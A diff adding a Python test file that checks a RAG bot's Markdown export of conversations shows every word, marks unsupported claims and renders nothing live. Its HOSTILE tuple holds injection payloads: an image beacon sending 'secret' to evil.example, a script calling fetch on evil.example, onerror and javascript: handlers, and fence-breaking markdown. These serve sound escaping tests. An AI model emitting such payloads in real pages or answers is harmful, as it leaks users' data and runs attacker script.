@@ -1,0 +1,152 @@
+"""An exported conversation shows every word, marks what is not supported, and has nothing live in it."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import replace
+from html import unescape
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from rag_bot.conversations import Conversation, SavedExchange
+from rag_bot.conversations.markdown import conversation_markdown, escaped, fenced
+from rag_bot.records import NO_CLAIM, PARTLY, UNSUPPORTED, Citation, Place, Sentence
+from tests.conversations.samples import ASKED, exchange, quote, quoted, written
+
+HOSTILE = (
+    "![beacon](http://evil.example/?q=secret)",
+    "<img src=http://evil.example/x.png onerror=alert(1)>",
+    "<script>fetch('http://evil.example')</script>",
+    "[click](javascript:alert(1)) http://evil.example www.evil.example <http://evil.example> a@evil.example",
+    "[1]: http://evil.example\n[1]\n![1]",
+    "```\n# Out of the fence\n```\n![x](http://evil.example)",
+    "````````\n> </blockquote><img src=x>\n\n\n## Another question\n~~~",
+    "- a\r\n- b\r# c\n===\n---\n| a | b |\n|---|---|\n| ![i](u) | c |",
+    "    indented ![i](http://evil.example)\n\t<iframe src=u></iframe>",
+    "<!-- a comment that\n\nnever ends ![i](u)",
+    "&lt;img src=x&gt; &#60;script&#62; \\![i](u) \\<b>",
+)
+KINDS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("js-default", {"html": True, "linkify": False})]
+OURS = {"h1", "h2", "p", "blockquote", "pre", "code", "ul", "ol", "li", "br"}
+
+
+def _page(*exchanges: SavedExchange, title: str = "Rent") -> str:
+    return conversation_markdown(Conversation("k", title, ASKED, ASKED, len(exchanges)), exchanges)
+
+
+def _html(page: str, kind: MarkdownIt = KINDS[0]) -> str:
+    return str(kind.render(page))
+
+
+def _tags(html: str) -> set[str]:
+    return set(re.findall(r"<\s*/?\s*([A-Za-z!][\w-]*)", html))
+
+
+def _shown(html: str) -> str:
+    return " ".join(unescape(re.sub(r"<[^>]*>", "", html)).split())
+
+
+def test_the_page_has_question_quote_place_and_circumstances() -> None:
+    page = _page(exchange("k", "When is the rent due?", "- On the third.", folder="notes/flat"))
+    assert page == """# Rent
+
+Begun 2026-11-03 14:05, last changed 2026-11-03 14:05, 1 question.
+
+## When is the rent due?
+
+Asked 2026-11-03 14:05 in notes/flat. Mode: quotes, lines of the notes.
+
+[1] notes/a.md:12-15 — Rent › Flat
+
+> ```
+> - On the third.
+> ```
+"""
+
+
+def test_prose_has_its_marks_warnings_model_notice_and_what_was_searched_for() -> None:
+    sentences = (
+        Sentence("Your notes say:", (), NO_CLAIM),
+        Sentence("It is due on the third.", (1, 2), before="\n- "),
+        Sentence("It is 900 crowns.", (2,), UNSUPPORTED, ("no line says 900",), "\n- "),
+        Sentence("Perhaps.", (), PARTLY, (), "\n\n"),
+    )
+    answer = written("And when?", *sentences, lines=("On the third.", "Monthly."))
+    answer = replace(answer, searched_for="When is the rent due?", notice="It broke off.", draft="And so")
+    page = _page(SavedExchange("k", "And when?", "", answer, ASKED))
+    assert "Mode: prose, written by ollama:qwen3, each sentence checked against the notes." in page
+    assert "\n\nSearched for: When is the rent due?\n\nNotice: It broke off.\n\nYour notes say:\n" in page
+    assert "\n- It is due on the third. [1] [2]\n- ⚠ not in your notes (no line says 900): It is 900 crowns. [2]" in page
+    assert "\n\n⚠ only partly in your notes: Perhaps.\n\n⚠ not checked: And so\n\n[1] notes/a.md:12-15" in page
+
+
+def test_a_support_that_this_version_does_not_know_is_not_shown_as_supported() -> None:
+    page = _page(SavedExchange("k", "q", "", written("q", Sentence("It is so.", (), "contested")), ASKED))
+    assert "⚠ not checked: It is so." in page
+
+
+def test_quotes_after_a_model_failed_name_it_and_an_abstaining_answer_the_nearest_passages() -> None:
+    answer = replace(quoted("q", "A line."), model="openai:gpt", notice="openai:gpt did not answer.")
+    assert "Mode: quotes, lines of the notes, after openai:gpt was asked." in _page(SavedExchange("k", "q", "", answer))
+    near = (Place("notes/b.md", "Flat", ("Keys",), 3, 4, 0.2),)
+    page = _page(SavedExchange("k", "q", "", quoted("q"), ASKED, near))
+    assert "This is not in your notes." in page
+    assert "- notes/b.md:3-4 — Flat › Keys" in page
+
+
+def test_a_citation_whose_note_has_changed_says_so() -> None:
+    answer = replace(quoted("q"), citations=(Citation(1, quote("A line."), "deleted"),))
+    assert "Flat (the note is no longer there)" in _page(SavedExchange("k", "q", "", answer, ASKED))
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+@pytest.mark.parametrize("kind", KINDS)
+def test_nothing_in_the_page_is_live_whatever_was_asked_noted_or_written(text: str, kind: MarkdownIt) -> None:
+    sentences = (Sentence(text, (1,), before=text), Sentence(text, (1,), UNSUPPORTED, (text,), "\n- "))
+    answer = replace(written(text, *sentences), notice=text, draft=text, model=text, searched_for=f"{text} more")
+    cited = quote(text, path=f"notes/{text}.md", title=text, headings=(text,))
+    answer = replace(answer, citations=(Citation(1, cited),))
+    near = (Place(text, text, (text,), 1, 1),)
+    page = _page(
+        *(SavedExchange("a", text, text, answer, ASKED, near), SavedExchange("b", "q", "", quoted("q", text), text)),
+        title=text,
+    )
+    html = _html(page, kind)
+    assert _tags(html) <= OURS
+    assert html.count("<h1>") == 1
+    assert html.count("<h2>") == 2
+    assert html.count("<blockquote>") == 2
+    first = " ".join(text.split())
+    assert _shown(html).count(first) >= 10
+
+
+@given(st.text(alphabet="`~> \t\n\r#-<a1[]!()\\&;", max_size=60))
+@settings(max_examples=200, deadline=None)
+def test_a_fence_holds_the_text_word_for_word(text: str) -> None:
+    html = _html(f"before\n\n{fenced(text)}\n\nafter")
+    found = re.fullmatch(
+        r"<p>before</p>\n<blockquote>\n<pre><code>(.*)</code></pre>\n</blockquote>\n<p>after</p>\n", html, re.DOTALL
+    )
+    assert found
+    assert unescape(found[1]).removesuffix("\n") == re.sub(r"\r\n?", "\n", text)
+
+
+@given(st.text(alphabet="`~>*_ \n#-+=.:<a1[]!()\\&;|$@/w", max_size=60))
+@settings(max_examples=300, deadline=None)
+def test_escaped_text_shows_its_words_and_makes_nothing_of_them(text: str) -> None:
+    for kind in KINDS:
+        html = _html(f"x: {escaped(text)}\n\nafter", kind)
+        assert _tags(html) <= {"p", "br"}
+        assert _shown(html) == " ".join(f"x: {text} after".split())
+
+
+@given(st.text(alphabet="`~>*_ #-+=.:<a1[]!()\\&;|$@/w", max_size=60))
+@settings(max_examples=200, deadline=None)
+def test_a_heading_shows_the_whole_question(text: str) -> None:
+    html = _html(_page(exchange("k", text)))
+    found = re.search(r"<h2>(.*)</h2>", html)
+    assert found
+    assert unescape(found[1]) == " ".join(text.split())
